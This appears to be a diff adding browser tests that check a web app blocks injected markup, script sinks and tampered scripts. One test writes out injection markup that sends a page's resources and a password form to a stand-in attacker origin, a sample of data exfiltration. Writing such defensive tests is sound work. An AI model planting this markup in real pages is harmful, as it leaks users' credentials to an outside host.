@@ -1,0 +1,80 @@
+import { expect, test as withHouse } from './fixtures.ts';
+import { allSinks, EVIL, MARKUP, ranOn, SINKS, visit } from './injection.ts';
+import { expectTrouble } from './manners.ts';
+
+const test = withHouse.extend({
+  // A service worker would fetch the documents that these tests change.
+  contextOptions: ({ contextOptions }, use) => use({ ...contextOptions, serviceWorkers: 'block' }),
+});
+
+// What a browser tells of every attack that it stops, and, where nothing stops it, of requests to the other origin.
+test.beforeEach(({ context }) => expectTrouble(context, /./));
+
+test('[R15] markup that got into a page runs nothing, whatever it is made of', async ({ context, house }) => {
+  const look = async (isBare: boolean) => {
+    const visited = await visit(context, house.origin, { markup: Object.values(MARKUP).join('\n'), isBare });
+    await visited.page.locator('#press').dispatchEvent('click');
+    return visited;
+  };
+  const bare = await look(true);
+  await expect.poll(() => ranOn(bare.page)).toEqual(expect.arrayContaining(Object.keys(MARKUP)));
+
+  const { page, taken } = await look(false);
+  await expect.poll(() => page.evaluate(() => document.readyState)).toBe('complete');
+  expect(await ranOn(page)).toEqual([]);
+  expect(taken).toEqual([]);
+});
+
+test('[R15] a text that reaches one of the browser’s doors to code is refused there', async ({ context, house }) => {
+  const tried = (isBare: boolean) => visit(context, house.origin, { script: allSinks(), isBare });
+  const bare = await tried(true);
+  await expect.poll(() => ranOn(bare.page)).toEqual(expect.arrayContaining(Object.keys(SINKS)));
+
+  const { page, taken } = await tried(false);
+  await expect.poll(() => page.evaluate(() => (globalThis as { tried?: number }).tried)).toBe(Object.keys(SINKS).length);
+  expect(await ranOn(page)).toEqual([]);
+  expect(taken).toEqual([]);
+});
+
+test('[R15] a base, a form, a style or a picture from markup leads nothing elsewhere', async ({ context, house }) => {
+  const markup = `
+    <base href="${EVIL}/">
+    <style>#marked { position: fixed }</style>
+    <link rel="stylesheet" href="${EVIL}/style.css">
+    <p id="marked" style="opacity: 0.5">marked</p>
+    <img src="${EVIL}/pixel.png"><object data="${EVIL}/object"></object><embed src="${EVIL}/embed"><iframe src="${EVIL}/frame"></iframe>
+    <form id="form" action="${EVIL}/form" method="post"><input name="password" value="typed"><button id="send">send</button></form>`;
+  const look = async (isBare: boolean) => {
+    const { page, taken } = await visit(context, house.origin, { markup, isBare });
+    const base = await page.evaluate(() => document.baseURI);
+    const { position, opacity } = await page.locator('#marked').evaluate((marked) => {
+      const style = getComputedStyle(marked);
+      return { position: style.position, opacity: style.opacity };
+    });
+    await page.locator('#send').evaluate((button) => (button as HTMLButtonElement).click());
+    await page.waitForLoadState();
+    return { page, taken, base, position, opacity };
+  };
+  const bare = await look(true);
+  await expect.poll(() => bare.taken).toEqual(expect.arrayContaining(['/style.css', '/pixel.png', '/object', '/embed', '/frame', '/form']));
+  expect(bare).toMatchObject({ base: `${EVIL}/`, position: 'fixed', opacity: '0.5' });
+
+  const { page, ...guarded } = await look(false);
+  expect(guarded).toEqual({ taken: [], base: `${house.origin}/login`, position: 'static', opacity: '1' });
+  expect(page.url()).toBe(`${house.origin}/login`);
+});
+
+test('[R13 R15] a listed script that was changed on the way does not run', async ({ context, house }) => {
+  const html = await (await context.request.get(`${house.origin}/login`)).text();
+  const [entry = ''] = /\/assets\/shell[\w.-]+\.js/.exec(html) ?? [];
+  const real = await (await context.request.get(house.origin + entry)).text();
+  const page = await context.newPage();
+  await page.route(
+    (url) => url.pathname === entry,
+    (route) => route.fulfill({ contentType: 'text/javascript', body: `globalThis.ran = ['changed'];\n${real}` }),
+  );
+  const refused = page.waitForEvent('console', (message) => /integrity|digest/i.test(message.text()));
+  await page.goto(`${house.origin}/login`);
+  await refused;
+  expect(await ranOn(page)).toEqual([]);
+});
